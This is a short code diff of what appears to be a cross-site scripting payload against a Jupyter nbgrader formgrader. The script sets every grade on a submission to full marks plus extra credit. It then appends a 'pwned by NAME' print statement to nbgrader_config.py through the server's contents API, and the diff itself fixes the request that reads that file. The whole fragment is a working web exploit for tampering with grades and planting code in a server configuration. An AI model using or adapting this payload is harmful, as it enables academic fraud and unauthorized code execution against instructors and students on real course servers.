@@ -30,7 +30,7 @@ window.__xss = (window.__xss || []).concat(['NAME']);
     const grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission_id)).json();
     for (const g of grades) await put('/formgrader/api/grade/' + g.id, {manual_score: g.max_score, extra_credit: 5});
   }
-  const config = await (await fetch('/api/contents/nbgrader_config.py?content=1')).json();
+  const config = await (await fetch('/api/contents/nbgrader_config.py?content=1&type=file&format=text')).json();
   await put('/api/contents/nbgrader_config.py',
             {type: 'file', format: 'text', content: config.content + '\nprint("pwned by NAME")\n'});
 })();
